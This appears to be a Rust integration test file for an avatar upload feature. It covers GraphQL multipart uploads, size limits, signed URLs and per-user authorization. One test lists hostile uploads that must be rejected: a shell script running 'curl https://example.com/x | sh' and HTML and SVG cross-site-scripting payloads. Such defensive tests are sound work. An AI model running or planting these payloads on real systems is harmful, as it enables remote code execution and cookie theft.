//! Avatars: uploads as GraphQL multipart requests (what Apollo and urql send), judged by their
//! bytes and size; signed URLs served by the server and refused once expired or tampered with;
//! one's own profile only; the object goes with the avatar and with the account.
use reqwest::StatusCode;
use reqwest::header::{CACHE_CONTROL, CONTENT_TYPE, X_CONTENT_TYPE_OPTIONS};
use reqwest::multipart::{Form, Part};
use serde_json::{Value as Json, json};
use uuid::Uuid;

use crate::fixtures::email;
use crate::helpers::{PASSWORD, TestApp, TestUser, code, now};

const UPLOAD: &str = "mutation($file: Upload!) { uploadAvatar(file: $file) { id userId avatarUrl avatarContentType } }";
const PROFILE: &str = "{ me { profile { id avatarUrl avatarContentType } } }";

const PNG: &[u8] = include_bytes!("../fixtures/avatars/avatar.png");
const JPEG: &[u8] = include_bytes!("../fixtures/avatars/avatar.jpg");
const WEBP: &[u8] = include_bytes!("../fixtures/avatars/avatar.webp");
const GIF: &[u8] = include_bytes!("../fixtures/avatars/avatar.gif");

/// The avatar limit of the default settings.
const TWO_MB: usize = 2 * 1024 * 1024;

/// A multipart request of `operations` with `files` (field name, file name, declared type,
/// bytes), every file mapped to `variables.file`.
async fn multipart(
    app: &TestApp,
    token: Option<&str>,
    operations: Json,
    files: Vec<(&str, &str, &str, Vec<u8>)>,
) -> (StatusCode, Json) {
    let map: serde_json::Map<String, Json> =
        files.iter().map(|(field, ..)| (field.to_string(), json!(["variables.file"]))).collect();
    let mut form = Form::new().text("operations", operations.to_string()).text("map", Json::Object(map).to_string());
    for (field, name, declared, bytes) in files {
        let part = Part::bytes(bytes).file_name(name.to_owned()).mime_str(declared).expect("a media type");
        form = form.part(field.to_owned(), part);
    }
    let mut request = app.client.post(app.url("/graphql")).multipart(form);
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let response = request.send().await.expect("request sent");
    let status = response.status();
    (status, response.json().await.expect("a JSON body"))
}

/// `uploadAvatar` with one file named `name`, declared as `declared`.
async fn upload(app: &TestApp, token: Option<&str>, name: &str, declared: &str, bytes: &[u8]) -> (StatusCode, Json) {
    let operations = json!({ "query": UPLOAD, "variables": { "file": null } });
    multipart(app, token, operations, vec![("0", name, declared, bytes.to_vec())]).await
}

/// Uploads `bytes` for `user`, which must succeed; the profile returned.
async fn uploaded(app: &TestApp, user: &TestUser, name: &str, bytes: &[u8]) -> Json {
    let (status, body) = upload(app, Some(&user.token), name, "application/octet-stream", bytes).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let profile = body["data"]["uploadAvatar"].clone();
    assert!(profile.is_object(), "upload failed: {body}");
    profile
}

/// GETs a URL the API handed out (a path on the server).
async fn get(app: &TestApp, url: &str) -> reqwest::Response {
    assert!(url.starts_with("/avatars/"), "a path on this server: {url}");
    app.client.get(app.url(url)).send().await.expect("request sent")
}

/// The avatar file in the test's store.
fn object(app: &TestApp, user: Uuid) -> std::path::PathBuf {
    app.test_db.avatar_dir.join(user.to_string()).join("avatar")
}

async fn my_profile(app: &TestApp, user: &TestUser) -> Json {
    let body = app.gql_as(Some(&user.token), PROFILE, json!({})).await;
    body["data"]["me"]["profile"].clone()
}

#[tokio::test]
async fn every_allowed_format_uploads_and_reads_back_through_its_signed_url() {
    let app = TestApp::spawn().await;
    let ann = app.sign_up(&email()).await;

    for (name, bytes, format, media_type) in [
        ("me.png", PNG, "PNG", "image/png"),
        ("me.jpg", JPEG, "JPEG", "image/jpeg"),
        ("me.webp", WEBP, "WEBP", "image/webp"),
        ("me.gif", GIF, "GIF", "image/gif"),
    ] {
        let profile = uploaded(&app, &ann, name, bytes).await;
        assert_eq!(profile["userId"], ann.id.to_string());
        assert_eq!(profile["avatarContentType"], format, "{profile}");
        let url = profile["avatarUrl"].as_str().expect("a signed URL");
        assert!(url.starts_with(&format!("/avatars/{}?expires=", ann.id)), "{url}");

        let served = get(&app, url).await;
        assert_eq!(served.status(), StatusCode::OK, "{name}");
        assert_eq!(served.headers()[CONTENT_TYPE], media_type);
        let cache = served.headers()[CACHE_CONTROL].to_str().unwrap().to_owned();
        assert!(cache.starts_with("private, max-age="), "{cache}");
        let max_age: i64 = cache.trim_start_matches("private, max-age=").parse().unwrap();
        assert!((14 * 60..=15 * 60).contains(&max_age), "the default lifetime is 15 minutes: {cache}");
        assert_eq!(served.headers()[X_CONTENT_TYPE_OPTIONS], "nosniff");
        assert_eq!(served.bytes().await.unwrap().as_ref(), bytes, "{name} reads back as uploaded");
        assert_eq!(std::fs::read(object(&app, ann.id)).unwrap(), bytes, "{name} is stored at <userId>/avatar");

        // Reading the profile again signs a fresh URL for the same bytes.
        let again = my_profile(&app, &ann).await;
        assert_eq!(again["avatarContentType"], format);
        let fresh = get(&app, again["avatarUrl"].as_str().unwrap()).await;
        assert_eq!(fresh.bytes().await.unwrap().as_ref(), bytes);
    }

    // Every upload is a profile change in the audit log, about the user, by the user.
    let audit = app
        .gql_as(
            Some(&ann.token),
            r#"{ auditLogs(filter: { action: { eq: "profile.avatar" } }) { totalCount edges { node { actorId subjectUserId tableName after } } } }"#,
            json!({}),
        )
        .await;
    let logs = &audit["data"]["auditLogs"];
    assert_eq!(logs["totalCount"], 4, "{audit}");
    let entry = &logs["edges"][0]["node"];
    assert_eq!(entry["actorId"], ann.id.to_string());
    assert_eq!(entry["subjectUserId"], ann.id.to_string());
    assert_eq!(entry["tableName"], "creator_profiles");
    assert!(entry["after"]["avatar_bytes"].is_number(), "{entry}");
}

#[tokio::test]
async fn an_avatar_may_weigh_2_mb_and_not_a_byte_more() {
    let app = TestApp::spawn().await;
    let ann = app.sign_up(&email()).await;
    let png_of = |size: usize| {
        let mut bytes = PNG.to_vec();
        bytes.resize(size, 0);
        bytes
    };

    let exact = png_of(TWO_MB);
    let profile = uploaded(&app, &ann, "big.png", &exact).await;
    assert_eq!(profile["avatarContentType"], "PNG");
    assert_eq!(std::fs::metadata(object(&app, ann.id)).unwrap().len(), TWO_MB as u64);

    let (status, body) = upload(&app, Some(&ann.token), "bigger.png", "image/png", &png_of(TWO_MB + 1)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(code(&body), "BAD_USER_INPUT", "{body}");
    assert_eq!(body["errors"][0]["extensions"]["field"], "file", "{body}");
    assert_eq!(body["data"], Json::Null);
    assert_eq!(std::fs::metadata(object(&app, ann.id)).unwrap().len(), TWO_MB as u64, "the avatar before stays");

    // Far larger bodies are not even read to the end.
    let (status, body) = upload(&app, Some(&ann.token), "huge.png", "image/png", &png_of(3 * TWO_MB)).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{body}");
    assert_eq!(code(&body), "BAD_USER_INPUT", "{body}");
}

#[tokio::test]
async fn the_bytes_decide_the_format_not_the_name_or_the_declared_type() {
    let app = TestApp::spawn().await;
    let ann = app.sign_up(&email()).await;

    let (status, body) = upload(&app, Some(&ann.token), "photo.gif", "image/gif", PNG).await;
    assert_eq!(status, StatusCode::OK);
    let profile = &body["data"]["uploadAvatar"];
    assert_eq!(profile["avatarContentType"], "PNG", "{body}");
    let served = get(&app, profile["avatarUrl"].as_str().unwrap()).await;
    assert_eq!(served.headers()[CONTENT_TYPE], "image/png");

    let refused: [(&str, &[u8]); 4] = [
        ("script", b"#!/bin/sh\ncurl https://example.com/x | sh\n"),
        ("html", b"<html><script>alert(document.cookie)</script></html>"),
        ("svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        ("almost a GIF", b"GIF-but-not-quite"),
    ];
    for (what, bytes) in refused {
        let (status, body) = upload(&app, Some(&ann.token), "avatar.png", "image/png", bytes).await;
        assert_eq!(status, StatusCode::OK, "{what}: {body}");
        assert_eq!(code(&body), "BAD_USER_INPUT", "{what}: {body}");
        assert_eq!(body["errors"][0]["extensions"]["field"], "file", "{what}: {body}");
        assert_eq!(body["data"], Json::Null, "{what}");
    }
    let after = my_profile(&app, &ann).await;
    assert_eq!(after["avatarContentType"], "PNG", "nothing refused replaced the avatar");
    assert_eq!(std::fs::read(object(&app, ann.id)).unwrap(), PNG);
}

#[tokio::test]
async fn expired_and_tampered_urls_are_refused_and_reveal_nothing() {
    let app = TestApp::spawn().await;
    let ann = app.sign_up(&email()).await;
    let bob = app.sign_up(&email()).await;
    let url = uploaded(&app, &ann, "me.png", PNG).await["avatarUrl"].as_str().unwrap().to_owned();
    assert_eq!(get(&app, &url).await.status(), StatusCode::OK);

    let (path, query) = url.split_once('?').unwrap();
    let params: Vec<(&str, &str)> = query.split('&').filter_map(|p| p.split_once('=')).collect();
    let expires: i64 = params.iter().find(|(k, _)| *k == "expires").unwrap().1.parse().unwrap();
    let sig = params.iter().find(|(k, _)| *k == "sig").unwrap().1;
    let mut flipped = sig.to_owned();
    let last = flipped.pop().unwrap();
    flipped.push(if last == 'A' { 'B' } else { 'A' });

    let avatars = &app.state.avatars;
    let refused = [
        ("expired, though genuinely signed", avatars.signed_path(ann.id, now() - 1)),
        ("a signature changed", format!("{path}?expires={expires}&sig={flipped}")),
        ("a later expiry", format!("{path}?expires={}&sig={sig}", expires + 3600)),
        ("another user's path", format!("/avatars/{}?expires={expires}&sig={sig}", bob.id)),
        ("no signature", format!("{path}?expires={expires}")),
        ("no expiry", format!("{path}?sig={sig}")),
        ("nothing signed", path.to_owned()),
        ("not base64", format!("{path}?expires={expires}&sig=%%%")),
        ("not a number", format!("{path}?expires=soon&sig={sig}")),
        ("not a user", format!("/avatars/nobody?expires={expires}&sig={sig}")),
    ];
    for (what, url) in refused {
        let response = get(&app, &url).await;
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{what}: {url}");
        assert!(response.headers().get(CONTENT_TYPE).is_none(), "{what}");
        assert!(response.bytes().await.unwrap().is_empty(), "{what}: the refusal says nothing");
    }
    // Only a genuine URL learns whether there is an avatar: none for a user without one.
    let response = get(&app, &avatars.signed_path(bob.id, now() + 60)).await;
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    assert!(response.bytes().await.unwrap().is_empty());
    let response = get(&app, &avatars.signed_path(Uuid::new_v4(), now() + 60)).await;
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    // The genuine URL still works.
    assert_eq!(get(&app, &url).await.status(), StatusCode::OK);
}

#[tokio::test]
async fn nobody_uploads_for_or_reads_the_profile_of_someone_else() {
    let app = TestApp::spawn().await;
    let ann = app.sign_up(&email()).await;
    let bob = app.sign_up(&email()).await;
    let ann_profile = uploaded(&app, &ann, "ann.png", PNG).await;
    let ann_url = ann_profile["avatarUrl"].as_str().unwrap().to_owned();

    // Bob's upload changes Bob's profile, never Ann's: there is no way to name hers.
    let bob_profile = uploaded(&app, &bob, "bob.gif", GIF).await;
    assert_eq!(bob_profile["userId"], bob.id.to_string());
    assert_eq!(get(&app, &ann_url).await.bytes().await.unwrap().as_ref(), PNG);
    assert_eq!(std::fs::read(object(&app, ann.id)).unwrap(), PNG);
    let operations = json!({
        "query": "mutation($file: Upload!, $u: UUID!) { uploadAvatar(file: $file, userId: $u) { id } }",
        "variables": { "file": null, "u": ann.id },
    });
    let (_, body) =
        multipart(&app, Some(&bob.token), operations, vec![("0", "x.png", "image/png", GIF.to_vec())]).await;
    assert_eq!(code(&body), "GRAPHQL_VALIDATION_FAILED", "no argument names another user: {body}");
    assert_eq!(std::fs::read(object(&app, ann.id)).unwrap(), PNG);

    // Ann's profile answers Bob like a profile that does not exist.
    let read = "query($id: UUID!) { creatorProfile(id: $id) { id avatarUrl } }";
    let hers = app.gql_as(Some(&bob.token), read, json!({ "id": ann_profile["id"] })).await;
    let nobodys = app.gql_as(Some(&bob.token), read, json!({ "id": Uuid::new_v4() })).await;
    assert_eq!(code(&hers), "NOT_FOUND", "{hers}");
    assert_eq!(hers["errors"][0]["message"], nobodys["errors"][0]["message"]);
    assert_eq!(hers["data"], nobodys["data"]);
    let list =
        app.gql_as(Some(&bob.token), "{ creatorProfiles(first: 10) { edges { node { userId } } } }", json!({})).await;
    assert_eq!(list["data"]["creatorProfiles"]["edges"], json!([{ "node": { "userId": bob.id.to_string() } }]));

    // Bob's own signature does not open Ann's avatar.
    let bob_url = bob_profile["avatarUrl"].as_str().unwrap();
    let moved = bob_url.replace(&bob.id.to_string(), &ann.id.to_string());
    assert_eq!(get(&app, &moved).await.status(), StatusCode::FORBIDDEN);

    // Only a signed-in user uploads, for their own profile: not anonymously, not the service role.
    let (_, body) = upload(&app, None, "x.png", "image/png", PNG).await;
    assert_eq!(code(&body), "UNAUTHENTICATED", "{body}");
    let (_, body) = upload(&app, Some(&app.service_token()), "x.png", "image/png", PNG).await;
    assert_eq!(code(&body), "FORBIDDEN", "{body}");
    // A bad token is refused before anything runs, multipart or not.
    let (status, body) = upload(&app, Some("not-a-token"), "x.png", "image/png", PNG).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(code(&body), "UNAUTHENTICATED");
    assert_eq!(std::fs::read(object(&app, ann.id)).unwrap(), PNG);
}

#[tokio::test]
async fn removing_the_avatar_removes_the_object() {
    let app = TestApp::spawn().await;
    let ann = app.sign_up(&email()).await;
    let url = uploaded(&app, &ann, "me.webp", WEBP).await["avatarUrl"].as_str().unwrap().to_owned();
    assert!(object(&app, ann.id).exists());

    let removed =
        app.gql_as(Some(&ann.token), "mutation { removeAvatar { avatarUrl avatarContentType } }", json!({})).await;
    assert_eq!(removed["data"]["removeAvatar"], json!({ "avatarUrl": null, "avatarContentType": null }), "{removed}");
    assert!(!object(&app, ann.id).exists());
    assert!(!app.test_db.avatar_dir.join(ann.id.to_string()).exists(), "the user's folder goes too");
    assert_eq!(get(&app, &url).await.status(), StatusCode::NOT_FOUND, "a URL of the removed avatar finds nothing");

    // Removing again changes nothing.
    let again = app.gql_as(Some(&ann.token), "mutation { removeAvatar { avatarUrl } }", json!({})).await;
    assert_eq!(again["data"]["removeAvatar"]["avatarUrl"], Json::Null, "{again}");
}

#[tokio::test]
async fn deleting_the_account_deletes_the_object() {
    let app = TestApp::spawn().await;
    let ann = app.sign_up(&email()).await;
    let bob = app.sign_up(&email()).await;
    let url = uploaded(&app, &ann, "me.jpg", JPEG).await["avatarUrl"].as_str().unwrap().to_owned();
    uploaded(&app, &bob, "me.gif", GIF).await;
    assert!(object(&app, ann.id).exists());

    let deleted = app
        .gql_as(Some(&ann.token), "mutation($p: String) { deleteMyAccount(password: $p) }", json!({ "p": PASSWORD }))
        .await;
    assert_eq!(deleted["data"]["deleteMyAccount"], true, "{deleted}");
    assert!(!object(&app, ann.id).exists(), "the avatar went with the account");
    assert_eq!(get(&app, &url).await.status(), StatusCode::NOT_FOUND);
    assert_eq!(std::fs::read(object(&app, bob.id)).unwrap(), GIF, "nobody else's avatar is touched");
}

#[tokio::test]
async fn avatar_url_is_no_longer_written_by_clients_and_an_old_link_shows_until_an_upload() {
    let app = TestApp::spawn().await;
    let ann = app.sign_up(&email()).await;
    let id = my_profile(&app, &ann).await["id"].as_str().unwrap().to_owned();

    let write =
        "mutation($id: UUID!, $i: UpdateCreatorProfileInput!) { updateCreatorProfile(id: $id, input: $i) { id } }";
    let body = app
        .gql_as(Some(&ann.token), write, json!({ "id": id, "i": { "avatarUrl": "https://example.com/a.png" } }))
        .await;
    assert_eq!(code(&body), "BAD_USER_INPUT", "{body}");

    // A link from before uploads existed still shows...
    let link = "https://example.com/old.png";
    app.test_db
        .exec("UPDATE creator_profiles SET avatar_url = $1 WHERE user_id = $2", vec![link.into(), ann.id.into()])
        .await
        .unwrap();
    assert_eq!(my_profile(&app, &ann).await["avatarUrl"], link);
    // ...until an upload replaces it (and clears it), and a removal leaves none.
    let uploaded = uploaded(&app, &ann, "me.png", PNG).await;
    assert!(uploaded["avatarUrl"].as_str().unwrap().starts_with("/avatars/"));
    let stored = "SELECT COUNT(*) FROM creator_profiles WHERE user_id = $1 AND avatar_url IS NULL";
    assert_eq!(app.test_db.count(stored, vec![ann.id.into()]).await, 1);
    app.gql_as(Some(&ann.token), "mutation { removeAvatar { id } }", json!({})).await;
    assert_eq!(my_profile(&app, &ann).await["avatarUrl"], Json::Null);
}

#[tokio::test]
async fn a_multipart_request_carries_one_file_and_is_checked_like_any_other() {
    let app = TestApp::spawn().await;
    let ann = app.sign_up(&email()).await;
    let operations = json!({ "query": UPLOAD, "variables": { "file": null } });

    let two = vec![("0", "a.png", "image/png", PNG.to_vec()), ("1", "b.png", "image/png", PNG.to_vec())];
    let (status, body) = multipart(&app, Some(&ann.token), operations.clone(), two).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(code(&body), "BAD_USER_INPUT", "{body}");
    assert!(!object(&app, ann.id).exists());

    // Without a map, or with a file the map does not name, nothing runs.
    let form = Form::new().text("operations", operations.to_string());
    let response = app.client.post(app.url("/graphql")).bearer_auth(&ann.token).multipart(form).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    let body: Json = response.json().await.unwrap();
    assert_eq!(code(&body), "BAD_REQUEST", "{body}");

    // A multipart request without files is a request like any other.
    let form =
        Form::new().text("operations", json!({ "query": "{ me { user { id } } }" }).to_string()).text("map", "{}");
    let response = app.client.post(app.url("/graphql")).bearer_auth(&ann.token).multipart(form).send().await.unwrap();
    let body: Json = response.json().await.unwrap();
    assert_eq!(body["data"]["me"]["user"]["id"], ann.id.to_string(), "{body}");

    // The placeholder of a file cannot be faked, in variables or in the document.
    for file in ["#__graphql_file__:0", "#__graphql_file__:x", "#__graphql_file__:99999999999999999999", "me.png"] {
        let faked = app.gql_as(Some(&ann.token), UPLOAD, json!({ "file": file })).await;
        assert_eq!(code(&faked), "BAD_USER_INPUT", "{file}: {faked}");
        let literal = format!("mutation {{ uploadAvatar(file: \"{file}\") {{ id }} }}");
        let faked = app.gql_as(Some(&ann.token), &literal, json!({})).await;
        assert_eq!(code(&faked), "BAD_USER_INPUT", "{file}: {faked}");
    }
    let operations = json!({
        "query": "mutation($file: Upload!, $other: Upload!) { a: uploadAvatar(file: $file) { id } b: uploadAvatar(file: $other) { id } }",
        "variables": { "file": null, "other": "#__graphql_file__:3" },
    });
    let (_, body) =
        multipart(&app, Some(&ann.token), operations, vec![("0", "a.png", "image/png", PNG.to_vec())]).await;
    assert_eq!(code(&body), "BAD_USER_INPUT", "{body}");
    assert_ne!(code(&body), "INTERNAL");
}

#[tokio::test]
async fn the_url_lifetime_and_origin_are_settings() {
    let app = TestApp::spawn_with(|config| {
        config.avatar_url_ttl_minutes = 2;
        config.avatar_base_url = Some("https://api.example.com/".into());
    })
    .await;
    let ann = app.sign_up(&email()).await;
    let url = uploaded(&app, &ann, "me.png", PNG).await["avatarUrl"].as_str().unwrap().to_owned();
    let path = url.strip_prefix("https://api.example.com").expect("the configured origin, once");
    assert!(path.starts_with(&format!("/avatars/{}?expires=", ann.id)), "{url}");
    let expires: i64 = path.split("expires=").nth(1).unwrap().split('&').next().unwrap().parse().unwrap();
    assert!((now() + 110..=now() + 120).contains(&expires), "two minutes: {expires}");
    let served = get(&app, path).await;
    assert_eq!(served.status(), StatusCode::OK);
    let cache = served.headers()[CACHE_CONTROL].to_str().unwrap().to_owned();
    let max_age: i64 = cache.trim_start_matches("private, max-age=").parse().unwrap();
    assert!((110..=120).contains(&max_age), "{cache}");
}
